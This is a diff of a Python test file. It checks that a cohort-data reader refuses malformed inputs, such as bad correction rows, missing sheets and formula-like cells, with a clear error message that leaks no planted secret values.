+        "sources.yaml line 1: not readable as UTF-8 YAML (no tags or aliases)",
+    ),
+    "sheet that there is not": Kind(
+        lambda folder: _as_workbook(in_folder(of_plan(file="cas.xlsx", sheet="other"))(folder)),
+        "cas.xlsx: it has 0 sheets that fit; name one as `sheet` in sources.yaml",
+    ),
+}
+
+
+def _as_workbook(folder: Path) -> Path:
+    pd.read_csv(folder / "cas.csv", dtype="str", keep_default_na=False).to_excel(folder / "cas.xlsx", index=False)
+    return folder
+
+
+def corrected(lines: str, names: str = "date,id,variable,old,new,reason") -> Callable[[Plan, Tables], object]:
+    def change(plan: Plan, tables: Tables) -> None:
+        plan.update(corrections="corrections.csv")
+        tables["corrections.csv"] = f"{names}\n{lines}\n".encode()
+
+    return change
+
+
+NO_DATE, NO_REASON = "without a date such as 2026-11-22", "without a reason, or that changes nothing"
+CORRECTIONS = {
+    "date in another order": (f"22/11/2026,{PLANTED},age_years,31,32,typing", NO_DATE),
+    "date that there is not": (f"2026-02-30,{PLANTED},age_years,31,32,typing", NO_DATE),
+    "date that does not sort": (f"20261122,{PLANTED},age_years,31,32,typing", NO_DATE),
+    "id that there is not": (
+        "2026-11-22,Wq-0999,age_years,31,32,typing",
+        "with an id that the first table does not have",
+    ),
+    "variable that is not held": (
+        f"2026-11-22,{PLANTED},age,31,32,typing",
+        "with a variable that the files do not hold",
+    ),
+    "old value that differs": (
+        f"2026-11-22,{PLANTED},age_years,777777,32,typing",
+        "whose old value is not the one in the data",
+    ),
+    "corrected twice from the same value": (
+        f"2026-11-22,Wq-0000,services_1y,2,3,typing\n2026-11-23,{PLANTED},age_years,31,32,typing\n"
+        f"2026-11-24,{PLANTED},age_years,31,33,typing",
+        "whose old value is not the one in the data",
+    ),
+    "no reason": (f"2026-11-22,{PLANTED},age_years,31,32,", NO_REASON),
+    "a blank for a reason": (f"2026-11-22,{PLANTED},age_years,31,32, ", NO_REASON),
+    "no change": (f"2026-11-22,{PLANTED},age_years,31,31,typing", NO_REASON),
+}
+for name, (lines, fault) in CORRECTIONS.items():
+    row = 1 + len(lines.splitlines())
+    KINDS[f"correction: {name}"] = Kind(in_folder(corrected(lines)), f"corrections.csv: 1 row {fault} (row {row})")
+_ONE = f"2026-11-22,{PLANTED},age_years,31"
+KINDS |= {
+    "corrections with other columns": Kind(
+        in_folder(corrected(_ONE, "date,id,variable,old")),
+        "corrections.csv: its columns must be date, id, variable, old, new, reason",
+    ),
+    "corrections cut short": Kind(
+        in_folder(corrected(_ONE)), "corrections.csv: 1 row with too many or too few cells (row 2)"
+    ),
+    "corrected to a formula": Kind(
+        in_folder(corrected(f"{_ONE},=777777+1,typing")), f"age_years: 1 row {FORMULA} (row 5 of main.csv)"
+    ),
+    "corrected out of range": Kind(
+        in_folder(corrected(f"{_ONE},777777,typing")), "age_years: 1 row outside 16 to 55 (row 5 of main.csv)"
+    ),
+    "corrected to an impossible combination": Kind(
+        in_folder(corrected(f"2026-11-22,{PLANTED},custody_t2,Yes,No,typing")),
+        "1 row with a combination of custody_t2 and custody_lost_by_t2, which cannot be: "
+        "without custody at timepoint 2 although custody was never lost (row 5)",
+    ),
+}
+
+# ---- what is not yet as it should be
+
+NOT_YET: dict[str, str] = {}
+
+
+@pytest.fixture(scope="module")
+def esmi() -> mm.Study:
+    return mm.read_study("esmi")
+
+
+def _all_text(error: Exception) -> str:
+    assert error.__cause__ is None
+    assert error.__context__ is None or error.__suppress_context__
+    return "\n".join([str(error), repr(error), *traceback.format_exception(error)])
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        pytest.param(name, marks=pytest.mark.xfail(strict=True, reason=NOT_YET[name])) if name in NOT_YET else name
+        for name in KINDS
+    ],
+)
+def test_a_broken_input_is_refused_with_its_place_and_without_a_value(tmp_path, esmi, caplog, capfd, name):
+    kind = KINDS[name]
+    path = kind.write(tmp_path)
+    with warnings.catch_warnings(record=True) as warned, pytest.raises(mm.DataError) as raised:
+        warnings.simplefilter("always")  # an analyst sees warnings; they may hold no value either
+        mm.read_cohort(path, esmi)
+    error = raised.value
+    assert error.exit_code == 3
+    assert kind.said in str(error)
+    assert "nothing was analysed" in error.summary
+    assert len(error.problems) == kind.problems or not kind.problems
+    seen = "\n".join([_all_text(error), caplog.text, *capfd.readouterr(), *(str(one.message) for one in warned)])
+    assert not [secret for secret in (*SECRETS, *kind.hidden) if secret in seen]
+
+
+def test_there_are_many_kinds_and_every_impossible_combination_is_one_of_them(esmi):
+    assert len(KINDS) >= 60
+    assert {*NOT_YET} <= {*KINDS}
+    said = "\n".join(kind.said for kind in KINDS.values())
+    assert [check.reason for check in esmi.file.impossible if check.reason not in said] == []
